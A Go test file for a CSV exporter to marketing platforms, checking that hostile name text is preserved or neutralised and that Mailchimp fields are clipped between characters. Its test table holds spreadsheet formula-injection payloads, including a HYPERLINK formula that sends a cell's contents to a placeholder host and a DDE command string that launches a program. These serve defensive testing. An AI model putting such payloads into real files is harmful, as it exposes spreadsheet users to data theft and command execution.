package platform

import (
	"slices"
	"strings"
	"testing"
)

// Survival: what came in names and once broke an importer or a spreadsheet, and
// what a CSV reader finds of it.
var hostile = []struct{ raw, want string }{
	{`Mary "Ann"`, `Mary "Ann"`},
	{`"`, `"`},
	{`a,b;c|d`, `a,b;c|d`},
	{"two\nlines", "two\nlines"},
	{"two\r\nlines", "two\nlines"},
	{"two\r\r\nlines", "two\nlines"},
	{"two\r\x00\nlines", "two\nlines"},
	{"old\rMac", "old\rMac"},
	{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"+1+1", "'+1+1"},
	{"-1+1", "'-1+1"},
	{"@SUM(A1)", "'@SUM(A1)"},
	{"\t=1", "'\t=1"},
	{"\r=1", "'\r=1"},
	{"\n=1", "'\n=1"},
	{" =1", "'=1"},
	{"\u00a0=1", "'=1"},
	{"\x00=1", "'=1"},
	{"nul\x00byte", "nulbyte"},
	{"bell\a", "bell"},
	{"bad\xff\xfebytes", "bad\ufffdbytes"},
	{"👩‍👩‍👧‍👦 family", "👩‍👩‍👧‍👦 family"},
	{"עברית, \"ימין\"", "עברית, \"ימין\""},
	{"\u202eevil", "\u202eevil"},
	{"مرحبا", "مرحبا"},
	{" spaces around ", "spaces around"},
	{`'quoted'`, `'quoted'`},
	{`\N`, `\N`},
	{`\`, `\`},
	{"NULL", "NULL"},
	{"\ufeffbom", "\ufeffbom"},
	{"007", "007"},
	{strings.Repeat("ä", 150), strings.Repeat("ä", 150)},
	{"", ""},
	{"   ", ""},
}

func TestHostileTextsSurviveACSVReader(t *testing.T) {
	spec := specOf(t, "klaviyo")
	spec.Attributes = []Attribute{{"segment", Text}}
	var people []Person
	for i, h := range hostile {
		people = append(people, Person{
			CustomerID: string(rune('a'+i%26)) + strings.Repeat("x", i), Email: "c" + strings.Repeat("x", i) + "@example.com",
			FirstName: h.raw, ConsentEmail: Granted, Attributes: []Cell{TextCell(h.raw)},
		})
	}
	result, files := mustExport(t, spec, people)
	header, rows := files.cells(t, result)
	first, segment := slices.Index(header, "First Name"), slices.Index(header, "segment")
	for i, h := range hostile {
		if rows[i][first] != h.want || rows[i][segment] != h.want {
			t.Errorf("%q: read as %q and %q, not %q", h.raw, rows[i][first], rows[i][segment], h.want)
		}
	}
}

// Mailchimp clips at 255 bytes, and what it would cut in two, we cut before.
func TestMailchimpTextsAreClippedBetweenRunes(t *testing.T) {
	spec := specOf(t, "mailchimp")
	people := []Person{
		{CustomerID: "1", Email: "a@example.com", ConsentEmail: Granted, FirstName: strings.Repeat("x", 300), LastName: strings.Repeat("é", 150)},
		{CustomerID: "2", Email: "b@example.com", ConsentEmail: Granted, FirstName: "=" + strings.Repeat("👍", 75), LastName: strings.Repeat("x", 255)},
	}
	result, files := mustExport(t, spec, people)
	_, rows := files.cells(t, result)
	for i, want := range [][]string{
		{strings.Repeat("x", 255), strings.Repeat("é", 127)},
		{"'=" + strings.Repeat("👍", 63), strings.Repeat("x", 255)},
	} {
		if !slices.Equal(rows[i][1:3], want) {
			t.Errorf("%q, not %q", rows[i][1:3], want)
		}
	}
	if n := result.Blanked["First Name"][Clipped]; n != 2 {
		t.Errorf("%d first names were clipped", n)
	}
}
